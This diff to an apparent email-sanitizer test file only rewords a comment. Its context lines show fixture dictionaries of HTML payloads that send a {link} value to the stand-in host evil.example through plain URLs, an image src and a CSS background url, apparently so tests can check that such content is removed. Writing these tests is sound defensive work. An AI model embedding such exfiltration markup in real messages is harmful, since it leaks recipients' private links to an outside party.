@@ -74,7 +74,7 @@ BAD = {
     "no paragraph": "https://evil.example/?t={link}",
     "division": "<div>https://evil.example/?t={link}</div>",
 }
-#: Not text of a mail: taken out, so that nothing of it goes out.
+#: Not text of an email: removed before it is sent.
 GONE = {
     "image": '<p><img src="https://evil.example/{link}.png"></p><p>{link}</p>',
     "style": '<p style="background:url(https://evil.example/{link})">x</p><p>{link}</p>',
